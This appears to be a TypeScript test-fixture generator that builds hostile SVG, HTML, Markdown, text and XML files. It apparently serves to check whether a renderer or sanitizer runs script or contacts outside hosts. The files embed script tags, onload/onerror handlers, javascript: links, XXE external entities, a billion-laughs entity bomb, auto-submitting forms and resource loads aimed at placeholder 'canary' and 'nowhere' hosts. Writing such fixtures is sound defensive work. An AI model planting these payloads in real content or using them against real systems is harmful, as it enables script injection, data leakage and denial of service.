import { type HostileFile, type Lure, payload, proseOf, textFile } from './hostile-file';

const svg = (inside: string, attributes = '', before = ''): string =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
  `width="64" height="64" ${attributes}><circle cx="32" cy="32" r="30" fill="teal"/>${inside}</svg>`;

/** Drawings that run, fetch or lead away. */
export function drawings(lure: Lure): HostileFile[] {
  const { canary, nowhere } = lure;
  const code = payload(lure);
  const attribute = code.replaceAll('"', '&quot;');
  const drawn = {
    script: svg(`<script>${code}</script>`),
    'script-source': svg(`<script href="${canary}/svg.js"/><script xlink:href="${nowhere}/a.js"/>`),
    onload: svg(`<image href="${canary}/x" onerror="${attribute}"/>`, `onload="${attribute}"`),
    foreign: svg(
      `<foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml">` +
        `<iframe src="${canary}/frame"></iframe><img src="${nowhere}/i.png"/><script>${code}</script></body></foreignObject>`,
    ),
    image: svg(
      `<image href="${canary}/i.png" width="9" height="9"/><image xlink:href="${nowhere}/j.png" width="9" height="9"/>`,
    ),
    use: svg(`<use href="${canary}/s.svg#a"/><use xlink:href="${nowhere}/s.svg#b"/>`),
    font: svg(
      `<style>@font-face{font-family:f;src:url(${canary}/f.woff2)}</style><text y="20" font-family="f">a</text>`,
    ),
    import: svg(`<style>@import url("${canary}/s.css");@import "${nowhere}/t.css";</style>`),
    fill: svg(
      `<rect width="9" height="9" fill="url(${canary}/p.svg#p)" style="background:url(${nowhere}/b)"/>`,
    ),
    filter: svg(
      `<filter id="f"><feImage href="${canary}/fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
    animate: svg(
      `<a href="#"><animate attributeName="href" values="javascript:${attribute}"/><text y="9">go</text></a>` +
        `<set attributeName="onload" to="${attribute}"/><animate onbegin="${attribute}" attributeName="x" dur="1s"/>`,
    ),
    stylesheet: svg('', '', `<?xml-stylesheet href="${canary}/s.css" type="text/css"?>`),
    entity: svg(
      '<text y="9">&amp;x;</text>',
      '',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/x.ent"><!ENTITY % y SYSTEM "${nowhere}/y.dtd"> %y;]>`,
    ),
  };
  return Object.entries(drawn).map(([name, text]) => textFile(`svg-${name}.svg`, text));
}

/** Pages with whatever a page can load, run or lead to. */
export function pages(lure: Lure): HostileFile[] {
  const { canary, nowhere } = lure;
  const code = payload(lure);
  const attribute = code.replaceAll('"', '&quot;');
  const heads = {
    'script-source': `<script src="${canary}/a.js"></script><script type="module" src="${nowhere}/m.js"></script>`,
    script: `<script>${code}</script>`,
    'style-sheet': `<link rel="stylesheet" href="${canary}/s.css"><style>@import "${nowhere}/t.css"</style>`,
    hints: [
      'prefetch',
      'preload',
      'dns-prefetch',
      'preconnect',
      'prerender',
      'modulepreload',
      'icon',
    ]
      .map(
        (rel) =>
          `<link rel="${rel}" href="${canary}/${rel}"><link rel="${rel}" href="${nowhere}/">`,
      )
      .join(''),
    refresh: `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    base: `<base href="${canary}/base/"><img src="relative.png"><script src="r.js"></script>`,
    policy: `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${canary}/report">`,
    speculation: `<script type="speculationrules">{"prerender":[{"urls":["${canary}/p"]}]}</script><script type="importmap">{"imports":{"x":"${canary}/x.js"}}</script>`,
  };
  const bodies = {
    image: `<img src="${canary}/i.png" onerror="${attribute}"><img srcset="${nowhere}/i2.png 2x">`,
    frame: `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>${attribute}</script>"></iframe><frame src="${nowhere}/">`,
    form: `<form action="${canary}/form" id="f"><input name="a" autofocus onfocus="f.submit()"></form><script>f.submit()</script>`,
    style: `<p style="background:url(${canary}/b.png);list-style:url('${nowhere}/l.png')">styled</p>`,
    media: `<video src="${canary}/v.mp4" poster="${nowhere}/p.png" autoplay></video><audio src="${canary}/a.mp3" autoplay></audio><track src="${canary}/t.vtt">`,
    object: `<object data="${canary}/o.swf"></object><embed src="${nowhere}/e.pdf"><applet code="x" codebase="${canary}/"></applet>`,
    link: `<a href="${canary}/click" ping="${nowhere}/ping" target="_blank">a link</a> <a href="javascript:${attribute}">another</a>`,
    drawing: `<svg onload="${attribute}"><image href="${canary}/i"/></svg><math href="javascript:${attribute}"></math>`,
  };
  const page = (name: string, head: string, body: string) =>
    textFile(
      `html-${name}.html`,
      `<!DOCTYPE html><html><head><title>${name}</title>${head}</head><body><h1>${name}</h1><p>${proseOf(name)}</p>${body}</body></html>`,
    );
  return [
    ...Object.entries(heads).map(([name, head]) => page(name, head, '')),
    ...Object.entries(bodies).map(([name, body]) => page(name, '', body)),
  ];
}

/** Markdown, plain text and XML. */
export function texts(lure: Lure): HostileFile[] {
  const { canary, nowhere } = lure;
  const code = payload(lure);
  const xml = (name: string, type: string, inside: string) =>
    textFile(
      `${name}.xml`,
      `<?xml version="1.0"?>${type}<note><p>${proseOf(name)}</p>${inside}</note>`,
    );
  const laughs = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
  ).join('');
  const written = {
    'image.md': `![pixel](${canary}/m.png) ![two][r]\n\n[r]: ${nowhere}/r.png`,
    'raw.md': `<script>${code}</script>\n\n<img src="${canary}/raw.png" onerror="${code}">`,
    'frame.md': `<iframe src="${canary}/f"></iframe>\n\n<meta http-equiv="refresh" content="0;url=${nowhere}">`,
    'link.md': `[click](javascript:${encodeURIComponent(code)}) <${canary}/auto> [it][x]\n\n[x]: ${nowhere}/t "t"`,
    'addresses.txt': `${canary}/plain\njavascript:${code}\n${nowhere}/?q=secret\n\u001b]8;;${canary}\u0007link\u001b]8;;\u0007`,
    'tags.txt': `<img src="${canary}/t.png"> </textarea></title><script>${code}</script>`,
  };
  return [
    ...Object.entries(written).map(([name, text]) =>
      textFile(name, `# ${name}\n\n${proseOf(name)}\n\n${text}\n`),
    ),
    xml('xml-entity', `<!DOCTYPE note [<!ENTITY x SYSTEM "${canary}/x.ent">]>`, '&x;'),
    xml('xml-laughs', `<!DOCTYPE note [<!ENTITY l0 "lol">${laughs}]>`, '&l9;'),
    xml(
      'xml-include',
      `<?xml-stylesheet type="text/xsl" href="${canary}/s.xsl"?>`,
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${nowhere}/i.xml"/>`,
    ),
  ];
}
